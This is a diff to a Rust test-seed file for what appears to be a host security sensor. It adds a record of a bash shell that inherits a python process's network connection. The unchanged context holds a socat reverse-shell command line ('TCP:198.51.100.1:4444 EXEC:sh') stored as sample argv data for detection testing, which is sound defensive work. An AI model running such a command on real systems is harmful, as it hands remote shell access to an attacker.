@@ -3,9 +3,10 @@
 use bytemuck::{Pod, Zeroable, bytes_of};
 use sensor_common::address::mapped;
 use sensor_common::record::{
-    ACCEPTED, Arm, ConnectionRecord, ExecRecord, FLAG_I, FLAG_UNSEARCHED, KNOWN_FILE, KNOWN_SESSION, KNOWN_TTY,
-    KNOWN_UNLINKED, Lineage, PATH_CUT, PATH_DETACHED, PATH_UNREADABLE, REASON_PARENT, REASON_PRESSURE, REASON_STREAMS,
-    STREAM_DEVICE, STREAM_TCP, Stream, WITNESS_ACCEPT, WITNESS_CONNECT, WITNESS_GRAFT, WITNESS_PROC,
+    ACCEPTED, Arm, CLASS_RELAY, ConnectionRecord, ExecRecord, FLAG_I, FLAG_UNSEARCHED, KNOWN_FILE, KNOWN_SESSION,
+    KNOWN_TTY, KNOWN_UNLINKED, Lineage, PATH_CUT, PATH_DETACHED, PATH_UNREADABLE, REASON_INHERITED, REASON_PARENT,
+    REASON_PRESSURE, REASON_STREAMS, STREAM_DEVICE, STREAM_PIPE, STREAM_TCP, STREAMS, Stream, WITNESS_ACCEPT,
+    WITNESS_CONNECT, WITNESS_GRAFT, WITNESS_PROC,
 };
 
 /// When the events were, in nanoseconds since boot.
@@ -24,6 +25,7 @@ pub(super) fn seeds() -> Vec<(String, Vec<u8>)> {
         ("exec-cut", cut()),
         ("exec-on-socket", on_socket()),
         ("exec-of-socat", socat()),
+        ("exec-inherited", inherited()),
         ("exec-with-surroundings", surrounded()),
     ]
     .map(|(name, bytes)| (name.to_owned(), bytes))
@@ -79,6 +81,23 @@ fn socat() -> Vec<u8> {
     let mut header = ExecRecord { comm: padded(b"socat"), reason: REASON_PARENT, ..exec() };
     header.path.state = PATH_UNREADABLE;
     record(&header, b"socat1\0bin\0", b"socat\0TCP:198.51.100.1:4444\0EXEC:sh\0")
+}
+
+/// A shell on pipes, which has inherited the connection of a python two forks away.
+fn inherited() -> Vec<u8> {
+    let (class, generations) = (CLASS_RELAY, 2);
+    let arm = Arm {
+        tgid: 4000,
+        tid: 4000,
+        comm: padded(b"python3"),
+        exe: padded(b"python3.11"),
+        class,
+        generations,
+        ..arm()
+    };
+    let pipe = Stream { kind: STREAM_PIPE, ..Zeroable::zeroed() };
+    let header = ExecRecord { arm, reason: REASON_INHERITED, streams: [pipe; STREAMS], ..exec() };
+    record(&header, b"bash\0bin\0usr\0", b"bash\0")
 }
 
 /// A file that was removed, in a session of its own with a terminal, with the paths of two ancestors, a directory and an environment.
